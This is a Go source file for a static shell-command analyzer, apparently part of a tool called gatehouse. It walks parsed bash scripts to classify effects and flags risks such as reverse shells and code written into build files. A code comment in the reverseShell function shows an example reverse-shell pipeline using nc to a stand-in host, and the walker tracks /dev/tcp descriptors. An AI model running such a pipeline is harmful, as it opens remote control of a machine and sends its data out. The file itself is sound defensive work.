package shellcmd

import (
	"context"
	"maps"
	"path"
	"reflect"
	"slices"
	"strings"

	"mvdan.cc/sh/v3/syntax"

	"github.com/gatehouse/gatehouse/internal/analysis"
)

// walker interprets one command line statically.
type walker struct {
	a            *Analyzer
	holdsGateway map[string]bool // paths shown that are directories holding a protected path
	dirs         map[int]string  // unit index → its working directory, when known
	ctx          context.Context
	kb           *Knowledge
	workdir      string
	units        []analysis.Unit

	funcs    map[string]*syntax.FuncDecl
	called   map[string]bool
	calling  map[string]bool
	aliases  map[string]string
	hashed   map[string]arg       // hash -p: name → program
	netFDs   map[string]string    // file descriptors opened on /dev/tcp: fd → host
	links    map[string]string    // symbolic links made earlier: link → target
	tainted  map[string]string    // variables the analysis cannot follow (namerefs, attributes): name → why
	intVars  map[string]bool      // declare -i: values are evaluated as arithmetic
	dataSeen map[string]bool      // variables already checked for code in their data
	written  map[string]bool      // paths written earlier in this command line
	seen     map[syntax.Node]bool // substitutions and commands already analyzed
	full     bool                 // a bound was reached: stop walking
	steps    int                  // statements walked, against MaxSteps
	files    []parsedFile         // every parsed script, for the final sweep
	srcs     []string             // the source of the script being walked, innermost last

	aliasDefs []string // aliases in definition order
	traps     []pendingTrap

	// cond counts the code being walked that may not run in this shell
	// (branches, loops, subshells, pipelines): a function or hash entry
	// defined there may or may not exist afterwards.
	cond      int
	uncertain map[string]bool               // function and hash names that may not be defined
	shopts    map[string]bool               // shell options turned on anywhere (dotglob, nocaseglob, cdable_vars)
	defs      int                           // function, alias and hash definitions so far, for trap replay
	readonly  map[string]bool               // functions made readonly (false: maybe, in a branch): later definitions fail
	funcAlts  map[string][]*syntax.FuncDecl // earlier bodies a call may still run
}

// script parses src and runs it in sc. via names what fed it (bash -c,
// eval); empty for the top level.
func (w *walker) script(sc *scope, src, via string) {
	if sc.depth > w.a.limits.MaxDepth {
		w.opaque(sc, src, analysis.FindingDepthExceeded, "nested more than "+itoa(w.a.limits.MaxDepth)+" levels deep")
		return
	}
	p := w.a.parsers.Get().(*syntax.Parser)
	f, err := p.Parse(strings.NewReader(src), "")
	w.a.parsers.Put(p)
	if err != nil {
		detail := err.Error()
		if via != "" {
			detail = via + ": " + detail
		}
		w.opaque(sc, src, analysis.FindingUnparsable, detail)
		return
	}
	w.files = append(w.files, parsedFile{f, src})
	w.srcs = append(w.srcs, src)
	w.stmts(sc, f.Stmts)
	w.srcs = w.srcs[:len(w.srcs)-1]
}

type parsedFile struct {
	f   *syntax.File
	src string
}

// opaque records a unit that cannot be understood.
func (w *walker) opaque(sc *scope, text string, kind analysis.FindingKind, detail string) *analysis.Unit {
	u := w.newUnit(sc, nil)
	u.Text = truncate(text, 200)
	u.Effects = u.Effects.With(analysis.Unknown)
	u.AddFinding(kind, detail)
	return w.add(u)
}

// newUnit starts a unit for argv in scope sc.
func (w *walker) newUnit(sc *scope, argv []arg) *analysis.Unit {
	u := &analysis.Unit{Kind: analysis.KindShell, Effects: sc.effects, Scopes: sc.scopes}
	if len(sc.via) > 0 {
		u.Via = append([]string(nil), sc.via...)
	}
	if len(argv) > 0 {
		u.Argv = args2strings(argv)
		u.Text = shellJoin(u.Argv)
	}
	return u
}

// add appends a finished unit, unless the bound is reached.
func (w *walker) add(u *analysis.Unit) *analysis.Unit {
	if len(w.units) >= w.a.limits.MaxUnits {
		w.stop("more than " + itoa(w.a.limits.MaxUnits) + " commands; the rest were not judged")
		return u
	}
	w.units = append(w.units, *u)
	return &w.units[len(w.units)-1]
}

// stop ends the walk at a bound: what is left is not judged, and a
// bound-exceeded unit says so, so that the command is reviewed.
func (w *walker) stop(detail string) {
	if w.full {
		return
	}
	w.full = true
	b := analysis.Unit{Kind: analysis.KindShell, Text: "…", Effects: analysis.Effects(analysis.Unknown)}
	b.AddFinding(analysis.FindingBoundExceeded, detail)
	w.units = append(w.units, b)
}

// step counts one statement walked and reports whether the walk may go
// on: within the step budget and before the caller gave up.
func (w *walker) step() bool {
	if w.full {
		return false
	}
	w.steps++
	if w.steps > w.a.limits.MaxSteps {
		w.stop("the analysis took more than " + itoa(w.a.limits.MaxSteps) + " steps (nested calls or loops); the rest was not judged")
		return false
	}
	if w.steps&1023 == 0 && w.ctx != nil && w.ctx.Err() != nil {
		w.stop("the analysis was stopped: " + w.ctx.Err().Error())
		return false
	}
	return true
}

func (w *walker) stmts(sc *scope, ss []*syntax.Stmt) {
	for _, s := range ss {
		if w.full {
			return
		}
		w.stmt(sc, s)
	}
}

// branch runs f in a copy of sc (code that may or may not run) and then
// forgets in sc whatever the branch may have changed.
func (w *walker) branch(sc *scope, f func(c *scope)) {
	c := sc.child()
	w.cond++
	f(c)
	w.cond--
	for name, v := range c.vars {
		if old, ok := sc.vars[name]; !ok || !sameVar(old, v) {
			sc.set(name, variable{})
		}
	}
	switch {
	case c.cwdKnown == sc.cwdKnown && c.cwd == sc.cwd:
	case c.cwdKnown && sc.cwdKnown && sc.cwdAlt == "" && (c.cwdAlt == "" || c.cwdAlt == sc.cwd):
		// The branch may or may not have changed directory: judge later
		// relative paths from both.
		sc.cwd, sc.cwdAlt = c.cwd, sc.cwd
	default:
		sc.cwdKnown = false
	}
	if c.posKnown != sc.posKnown || c.posDynamic != sc.posDynamic || !slices.Equal(c.pos, sc.pos) {
		// set -- or shift may have run.
		sc.posDynamic = true
	}
}

func sameVar(a, b variable) bool {
	if a.known != b.known || a.str != b.str || a.isList != b.isList || len(a.list) != len(b.list) {
		return false
	}
	for i := range a.list {
		if a.list[i] != b.list[i] {
			return false
		}
	}
	return true
}

func (w *walker) stmt(sc *scope, s *syntax.Stmt) {
	if s == nil || !w.step() {
		return
	}
	start := len(w.units)
	rd := w.redirects(sc, s)
	parent, saved := sc, sc.stdin
	if rd.stdin != nil {
		sc.stdin = rd.stdin
	}
	defer func() { parent.stdin = saved }()
	if s.Background {
		// "cmd &" keeps running after the command line returns.
		sc = sc.child()
		sc.scopes = sc.scopes.With(analysis.Background)
	}
	simple := false
	switch c := s.Cmd.(type) {
	case nil:
		simple = true // "> file": the redirection is the whole statement
	case *syntax.CallExpr:
		simple = true
		w.call(sc, c)
	case *syntax.BinaryCmd:
		switch c.Op {
		case syntax.Pipe, syntax.PipeAll:
			w.pipeline(sc, c)
		case syntax.AndStmt:
			w.andChain(sc, c)
		default:
			w.stmt(sc, c.X)
			w.branch(sc, func(b *scope) { w.stmt(b, c.Y) })
		}
	case *syntax.Subshell:
		w.cond++
		w.stmts(sc.child(), c.Stmts)
		w.cond--
	case *syntax.Block:
		w.stmts(sc, c.Stmts)
	case *syntax.IfClause:
		w.ifClause(sc, c)
	case *syntax.WhileClause:
		w.loop(sc, func(b *scope) {
			w.stmts(b, c.Cond)
			w.stmts(b, c.Do)
		})
	case *syntax.ForClause:
		w.forClause(sc, c)
	case *syntax.CaseClause:
		w.literal(sc, c.Word)
		for _, item := range c.Items {
			for _, p := range item.Patterns {
				w.literal(sc, p)
			}
			w.branch(sc, func(b *scope) { w.stmts(b, item.Stmts) })
		}
	case *syntax.FuncDecl:
		if c.Name != nil {
			w.defineFunc(c.Name.Value, c)
		}
		for _, n := range c.Names {
			w.defineFunc(n.Value, c)
		}
		if c.Name == nil && len(c.Names) == 0 && c.Body != nil {
			// "() cmd": a declaration with no name; bash rejects it, but judge
			// the body rather than skip it.
			w.stmt(sc.child(), c.Body)
		}
	case *syntax.DeclClause:
		w.decl(sc, c)
	case *syntax.ArithmCmd:
		w.arithm(sc, c.X)
	case *syntax.LetClause:
		for _, x := range c.Exprs {
			w.arithm(sc, x)
			if text := printArith(x); strings.ContainsAny(text, "$`") {
				// let 'a[$(cmd)]=1': the quoted text is evaluated again.
				w.dataCode(sc, "let", strings.Trim(text, `'"`), "let evaluates "+truncate(text, 40))
			}
		}
	case *syntax.TestClause:
		w.testExpr(sc, c.X)
	case *syntax.TimeClause:
		if c.Stmt != nil {
			w.stmt(sc, c.Stmt)
		}
	case *syntax.CoprocClause:
		if c.Stmt != nil {
			w.stmt(sc.child(), c.Stmt)
		}
	case *syntax.TestDecl:
		if c.Body != nil {
			w.stmt(sc.child(), c.Body)
		}
	default:
		w.opaque(sc, "", analysis.FindingUnparsable, "unsupported shell construct")
	}
	w.attachRedirs(sc, rd, start, simple)
}

// andChain walks a && b && c: the first command always runs, each next one
// only after the one before it succeeded, so within the chain a cd that
// came before did happen (mkdir b && cd b && cmake ..).
func (w *walker) andChain(sc *scope, c *syntax.BinaryCmd) {
	var items []*syntax.Stmt
	for {
		items = append(items, c.Y)
		x, ok := c.X.Cmd.(*syntax.BinaryCmd)
		if !ok || x.Op != syntax.AndStmt || c.X.Negated || c.X.Background || len(c.X.Redirs) > 0 {
			items = append(items, c.X)
			break
		}
		c = x
	}
	slices.Reverse(items)
	cwd, alt := sc.cwd, sc.cwdAlt
	w.stmt(sc, items[0])
	succeeded := isCd(items[0]) && sc.cwdKnown && sc.cwd != cwd && alt == ""
	w.branch(sc, func(b *scope) {
		if succeeded {
			b.cwdAlt = "" // the rest runs only if that cd succeeded
		}
		for _, it := range items[1:] {
			cwd, alt := b.cwd, b.cwdAlt
			w.stmt(b, it)
			if isCd(it) && b.cwdKnown && b.cwd != cwd && alt == "" {
				b.cwdAlt = ""
			}
		}
	})
}

// isCd reports a plain cd (or pushd) statement, whose success is what
// lets the next command of an && chain run. "! cd x", "cd x || true" and
// "{ cd x; true; }" succeed whether or not the cd did.
func isCd(s *syntax.Stmt) bool {
	if s == nil || s.Negated || s.Background {
		return false
	}
	ce, ok := s.Cmd.(*syntax.CallExpr)
	if !ok || len(ce.Args) == 0 {
		return false
	}
	switch ce.Args[0].Lit() {
	case "cd", "pushd", "chdir":
		return true
	}
	return false
}

// ifClause walks if/elif/else: the first condition always runs, the rest
// (an elif's condition too) only may.
func (w *walker) ifClause(sc *scope, c *syntax.IfClause) {
	w.stmts(sc, c.Cond)
	w.branch(sc, func(b *scope) { w.stmts(b, c.Then) })
	if c.Else != nil {
		w.branch(sc, func(b *scope) { w.ifClause(b, c.Else) })
	}
}

// arithm analyzes the substitutions inside an arithmetic expression and
// forgets the variables it may assign.
func (w *walker) arithm(sc *scope, x syntax.ArithmExpr) {
	if x == nil {
		return
	}
	w.evalVarsIn(sc, &syntax.ArithmExp{X: x})
	syntax.Walk(x, func(n syntax.Node) bool {
		if w.substitutionNode(sc, n) {
			return false
		}
		switch n := n.(type) {
		case *syntax.BinaryArithm:
			if n.Op >= syntax.Assgn && n.Op <= syntax.ShrAssgn {
				if w, ok := n.X.(*syntax.Word); ok {
					if lit := w.Lit(); lit != "" {
						sc.set(lit, variable{})
					}
				}
			}
		case *syntax.UnaryArithm:
			if n.Op == syntax.Inc || n.Op == syntax.Dec {
				if w, ok := n.X.(*syntax.Word); ok {
					if lit := w.Lit(); lit != "" {
						sc.set(lit, variable{})
					}
				}
			}
		}
		return true
	})
}

func (w *walker) testExpr(sc *scope, x syntax.TestExpr) {
	// [[ a -eq b ]] evaluates both sides as arithmetic.
	syntax.Walk(x, func(n syntax.Node) bool {
		bt, ok := n.(*syntax.BinaryTest)
		if !ok {
			return true
		}
		switch bt.Op {
		case syntax.TsEql, syntax.TsNeq, syntax.TsLeq, syntax.TsGeq, syntax.TsLss, syntax.TsGtr:
			for _, side := range []syntax.TestExpr{bt.X, bt.Y} {
				word, ok := side.(*syntax.Word)
				if !ok {
					continue
				}
				name := word.Lit()
				if name == "" && len(word.Parts) == 1 {
					if pe, ok := word.Parts[0].(*syntax.ParamExp); ok && pe.Param != nil {
						name = pe.Param.Value
					}
				}
				if v, ok := sc.lookup(name); ok && v.known && !v.isList {
					w.dataCode(sc, name, v.str, "[[ "+bt.Op.String()+" ]] evaluates "+name+" as arithmetic")
				}
			}
		}
		return true
	})
	syntax.Walk(x, func(n syntax.Node) bool {
		if word, ok := n.(*syntax.Word); ok {
			w.literal(sc, word)
			return false
		}
		return true
	})
}

func (w *walker) forClause(sc *scope, c *syntax.ForClause) {
	switch l := c.Loop.(type) {
	case *syntax.WordIter:
		name := l.Name.Value
		items := w.fields(sc, l.Items)
		allStatic := true
		for _, it := range items {
			if it.dynamic {
				allStatic = false
			}
		}
		if !l.InPos.IsValid() && len(l.Items) == 0 {
			// "for x; do" iterates over the positional parameters.
			allStatic = false
		}
		if allStatic && len(items) > 0 && len(items) <= 8 {
			for _, it := range items {
				w.branch(sc, func(b *scope) {
					// A glob item stands for each file it matches: the
					// variable holds the pattern, which says where they are.
					b.set(name, variable{str: it.s, known: true, glob: it.glob})
					w.stmts(b, c.Do)
				})
			}
			sc.set(name, variable{})
			return
		}
		w.loop(sc, func(b *scope) {
			b.set(name, variable{})
			w.stmts(b, c.Do)
		})
	case *syntax.CStyleLoop:
		w.arithm(sc, l.Init)
		w.loop(sc, func(b *scope) {
			w.arithm(b, l.Cond)
			w.stmts(b, c.Do)
			w.arithm(b, l.Post)
		})
	}
}

// loop walks a loop body that may run any number of times: once from the
// state before the loop, then once more from the state a pass leaves, so
// that values carried from one iteration to the next are seen (x=ls; while
// :; do $x; x=rm; done runs rm the second time). Units the second pass
// finds again are dropped.
func (w *walker) loop(sc *scope, body func(b *scope)) {
	first := len(w.units)
	cwd, known := sc.cwd, sc.cwdKnown
	w.branch(sc, body)
	if sc.cwd != cwd || sc.cwdKnown != known {
		// A body that changes directory (cd ..) is somewhere else on
		// every pass: from the second pass on, the directory is unknown.
		sc.cwdKnown, sc.cwdAlt = false, ""
	}
	second := len(w.units)
	saved := w.seen
	w.seen = map[syntax.Node]bool{} // substitutions are analyzed again with the new values
	w.branch(sc, body)
	maps.Copy(saved, w.seen)
	w.seen = saved
	w.dedupe(first, second)
}

// dedupe drops the units from second on that repeat one in
// w.units[first:second].
func (w *walker) dedupe(first, second int) {
	if second == len(w.units) {
		return
	}
	byText := map[string][]int{}
	for i := first; i < second; i++ {
		byText[w.units[i].Text] = append(byText[w.units[i].Text], i)
	}
	kept := w.units[:second]
	for i := second; i < len(w.units); i++ {
		u := &w.units[i]
		if !slices.ContainsFunc(byText[u.Text], func(j int) bool { return reflect.DeepEqual(&w.units[j], u) }) {
			kept = append(kept, *u)
		}
	}
	clear(w.units[len(kept):])
	w.units = kept
}

// defineFunc records a function definition; one made where it may not
// take effect here is uncertain, so calls judge the program of that name
// too.
func (w *walker) defineFunc(name string, fd *syntax.FuncDecl) {
	ro, known := w.readonly[name]
	if known && ro {
		return // bash refuses to redefine a readonly function
	}
	w.defs++
	old := w.funcs[name]
	w.funcs[name] = fd
	compound := false
	if fd.Body != nil {
		switch fd.Body.Cmd.(type) {
		case *syntax.Block, *syntax.Subshell, *syntax.IfClause, *syntax.WhileClause, *syntax.ForClause,
			*syntax.CaseClause, *syntax.ArithmCmd, *syntax.TestClause:
			compound = true
		}
	}
	// "f() { :; } | true" parses here as a body piped to true; bash pipes
	// the definition itself, in a subshell.
	uncertain := w.cond > 0 || !compound || known // known && !ro: made readonly in a branch
	w.markDefined("func "+name, uncertain)
	switch {
	case !uncertain:
		delete(w.funcAlts, name)
	case old != nil:
		// The definition may not have happened: the old body may still be
		// the one a call runs.
		w.funcAlts[name] = append(w.funcAlts[name], old)
	}
}

func (w *walker) markDefined(key string, uncertain bool) {
	if uncertain {
		w.uncertain[key] = true
	} else {
		delete(w.uncertain, key)
	}
}

// pipeline runs each side of a pipe in its own subshell, with the left
// side's output described as the right side's input.
func (w *walker) pipeline(sc *scope, c *syntax.BinaryCmd) {
	w.cond++
	defer func() { w.cond-- }()
	left := sc.child()
	start := len(w.units)
	w.stmt(left, c.X)
	in := &stdinInfo{kind: stdinPipe, desc: "a pipe"}
	for i := start; i < len(w.units); i++ {
		in.effects |= w.units[i].Effects
		if w.isDecoder(&w.units[i]) {
			in.decoded = true
		}
	}
	if sc.stdin != nil {
		in.effects |= sc.stdin.effects
		in.decoded = in.decoded || sc.stdin.decoded
	}
	if text, ok := w.staticOutput(sc, c.X); ok {
		in.text, in.known = text, true
	}
	in.listed = w.onlyListsWorkspace(start)
	mid := len(w.units)
	right := sc.child()
	right.stdin = in
	w.stmt(right, c.Y)
	w.reverseShell(start, mid)
}

// codeExts are file types that builds, tests and interpreters run or load.
var codeExts = map[string]bool{".go": true, ".py": true, ".js": true, ".mjs": true, ".cjs": true, ".ts": true,
	".tsx": true, ".jsx": true, ".rs": true, ".c": true, ".h": true, ".cc": true, ".cpp": true, ".rb": true,
	".java": true, ".kt": true, ".kts": true, ".scala": true, ".php": true, ".pl": true, ".pm": true, ".sh": true,
	".bash": true, ".lua": true, ".ex": true, ".exs": true, ".erl": true, ".hs": true, ".swift": true, ".cs": true,
	".tf": true, ".hcl": true, ".mk": true, ".gradle": true, ".cmake": true, ".toml": true, ".cfg": true, ".ini": true,
	".json": true, ".yaml": true, ".yml": true, ".xml": true, ".properties": true, ".vue": true, ".svelte": true}

// buildFiles are files, whatever their extension, that build tools read as
// instructions.
var buildFiles = map[string]bool{"Makefile": true, "makefile": true, "GNUmakefile": true, "Rakefile": true,
	"Gemfile": true, "Dockerfile": true, "Justfile": true, "justfile": true, "Jenkinsfile": true, "Vagrantfile": true,
	"Brewfile": true, "Procfile": true, ".npmrc": true, ".yarnrc": true, ".gitconfig": true, ".envrc": true,
	"BUILD": true, "WORKSPACE": true, "Taskfile": true, ".curlrc": true, ".wgetrc": true}

// wroteCode reports whether this command line has written a file that
// code run from the workspace may load: a Makefile, package.json, a test.
func (w *walker) wroteCode() bool {
	for p, untrusted := range w.written {
		if untrusted && (buildFiles[path.Base(p)] || codeExts[path.Ext(p)]) {
			return true
		}
	}
	return false
}

// wroteOperandBefore reports an operand an earlier command of this line
// wrote: go run main.go after echo ... > main.go. Files this unit writes
// itself do not count.
func (w *walker) wroteOperandBefore(sc *scope, ops []arg, u *analysis.Unit) bool {
	own := map[string]bool{}
	for _, p := range u.Paths {
		if p.Access == analysis.AccessWrite {
			own[p.Value] = true
		}
	}
	for _, a := range ops {
		if p, ok := resolvePath(sc, a); ok && w.written[p] && !own[a.display()] {
			return true
		}
	}
	return false
}

// lineFilters pass a subset of their input lines on.
var lineFilters = map[string]bool{"sort": true, "uniq": true, "head": true, "tail": true, "grep": true, "rg": true, "tac": true, "shuf": true}

// onlyListsWorkspace reports whether the units since start only list path
// names under the workspace (find . -name x, git ls-files, grep -rl x .),
// possibly filtered, so that what they print are workspace paths.
func (w *walker) onlyListsWorkspace(start int) bool {
	lister := false
	for i := start; i < len(w.units); i++ {
		u := &w.units[i]
		listsNames := false
		switch u.Program {
		case "find", "fd", "fdfind", "ls":
			listsNames = !u.Effects.Any(analysis.Effects(analysis.Destructive, analysis.LocalWrite)) && !slicesContains(u.Argv, "-printf")
		case "grep", "rg", "ag", "ack":
			listsNames = slicesContains(u.Argv, "-l") || slicesContains(u.Argv, "-rl") || slicesContains(u.Argv, "-lr") ||
				slicesContains(u.Argv, "--files-with-matches") || slicesContains(u.Argv, "--files")
		case "git":
			listsNames = u.Subcommand == "ls-files" || (u.Subcommand == "diff" && slicesContains(u.Argv, "--name-only"))
		}
		if listsNames {
			lister = true
			for _, p := range u.Paths {
				if p.Class != analysis.Workspace {
					return false
				}
			}
			// Relative names are listed from the working directory: it
			// must be the workspace too (cd /elsewhere && ls | xargs cat).
			if dir, ok := w.dirs[i]; !ok || w.classifyClean(dir) != analysis.Workspace {
				return false
			}
			continue
		}
		if !lineFilters[u.Program] || !u.Effects.Within(analysis.Effects(analysis.Read)) {
			return false
		}
	}
	return lister
}

func slicesContains(s []string, v string) bool {
	for _, x := range s {
		if x == v {
			return true
		}
	}
	return false
}

// reverseShell marks a shell or interpreter that reads its commands from
// a pipe or a terminal when its output is piped into a network command:
// cat f | sh -i | nc host 4444 > f.
func (w *walker) reverseShell(start, mid int) {
	network := false
	for i := mid; i < len(w.units); i++ {
		if len(w.units[i].Hosts) > 0 || w.units[i].Effects.Has(analysis.Network) {
			network = true
		}
	}
	if !network {
		return
	}
	for i := start; i < mid; i++ {
		u := &w.units[i]
		if u.HasFinding(analysis.FindingStdinToShell) || u.HasFinding(analysis.FindingInteractive) ||
			u.HasFinding(analysis.FindingHeredocShell) {
			u.Effects = u.Effects.With(analysis.RemoteCode).With(analysis.Exfiltration)
			u.AddFinding(analysis.FindingReverseShell, u.Program+" reads commands and sends its output to the network")
		}
	}
}

// staticOutput returns what a statement prints when that is known: an echo
// or printf of constants, or a cat of a constant heredoc.
func (w *walker) staticOutput(sc *scope, s *syntax.Stmt) (string, bool) {
	ce, ok := s.Cmd.(*syntax.CallExpr)
	if !ok || len(ce.Args) == 0 {
		return "", false
	}
	var words []string
	for _, word := range ce.Args {
		dynamic, glob := w.wordInfo(sc, word)
		if dynamic || glob {
			return "", false
		}
		lit := w.literalQuiet(sc, word)
		words = append(words, lit)
	}
	switch words[0] {
	case "echo":
		args := words[1:]
		for len(args) > 0 && (args[0] == "-n" || args[0] == "-E") {
			args = args[1:]
		}
		if len(args) > 0 && strings.HasPrefix(args[0], "-e") {
			return "", false
		}
		return strings.Join(args, " ") + "\n", true
	case "printf":
		if len(words) == 2 && !strings.ContainsAny(words[1], "%\\") {
			return words[1], true
		}
	case "cat":
		if len(words) == 1 {
			for _, r := range s.Redirs {
				if (r.Op == syntax.Hdoc || r.Op == syntax.DashHdoc) && r.Hdoc != nil {
					if d, _ := w.wordInfo(sc, r.Hdoc); !d {
						return w.hdocText(sc, r), true
					}
				}
			}
		}
	}
	return "", false
}

// substitution analyzes the commands of a command or process substitution
// once, in a subshell.
func (w *walker) substitution(sc *scope, n syntax.Node, stmts []*syntax.Stmt) {
	if w.seen[n] {
		return
	}
	w.seen[n] = true
	c := sc.child()
	c.stdin = nil
	w.cond++
	defer func() { w.cond-- }()
	if cs, ok := n.(*syntax.CmdSubst); ok && cs.Backquotes && len(w.srcs) > 0 {
		// Bash parses `...` in two steps: it removes the backslashes before
		// ` $ and \, then parses the result. Nested backquotes are only
		// visible after that step, so do as bash does.
		src := w.srcs[len(w.srcs)-1]
		l, r := int(cs.Left.Offset()), int(cs.Right.Offset())
		if l >= 0 && r <= len(src) && l < r {
			raw := src[l+1 : r]
			if un := unescapeBackquotes(raw); un != raw {
				w.script(c.nestedSame("`...`"), un, "backquotes")
				return
			}
		}
	}
	w.stmts(c, stmts)
}

func unescapeBackquotes(s string) string {
	if !strings.Contains(s, "\\") {
		return s
	}
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if s[i] == '\\' && i+1 < len(s) && (s[i+1] == '`' || s[i+1] == '$' || s[i+1] == '\\') {
			i++
		}
		b.WriteByte(s[i])
	}
	return b.String()
}

// substitutionNode analyzes n if it is a command or process substitution,
// and reports whether it was.
func (w *walker) substitutionNode(sc *scope, n syntax.Node) bool {
	switch n := n.(type) {
	case *syntax.CmdSubst:
		w.substitution(sc, n, n.Stmts)
		return true
	case *syntax.ProcSubst:
		w.substitution(sc, n, n.Stmts)
		return true
	}
	return false
}

// finish analyzes what the walk could not reach in order: functions that
// were defined but never called, and any substitution or command the walk
// missed; then it relates units to each other (data flows).
func (w *walker) finish(sc *scope) {
	w.replayTraps(sc)
	for _, name := range slices.Sorted(maps.Keys(w.funcs)) {
		fd := w.funcs[name]
		if !w.called[name] && !w.full {
			w.called[name] = true
			c := sc.child()
			c.posKnown, c.posDynamic = true, true
			w.stmt(c.nestedSame(name+"()"), fd.Body)
		}
	}
	for _, name := range w.aliasDefs {
		if text, ok := w.aliases[name]; ok && !w.called["alias "+name] {
			w.called["alias "+name] = true
			w.script(sc.nestedSame("alias "+name), text, "alias "+name)
		}
	}
	for _, pf := range w.files {
		if w.full {
			break // past the bound the answer is review anyway
		}
		w.srcs = append(w.srcs[:0], pf.src)
		syntax.Walk(pf.f, func(n syntax.Node) bool {
			switch n := n.(type) {
			case *syntax.CmdSubst:
				if !w.seen[n] {
					w.substitution(sc, n, n.Stmts)
				}
			case *syntax.ProcSubst:
				if !w.seen[n] {
					w.substitution(sc, n, n.Stmts)
				}
			case *syntax.CallExpr:
				if !w.seen[n] && len(n.Args) > 0 {
					w.seen[n] = true
					c := sc.child()
					c.posKnown, c.posDynamic = true, true
					w.call(c, n)
				}
			}
			return true
		})
	}
	w.flows()
}
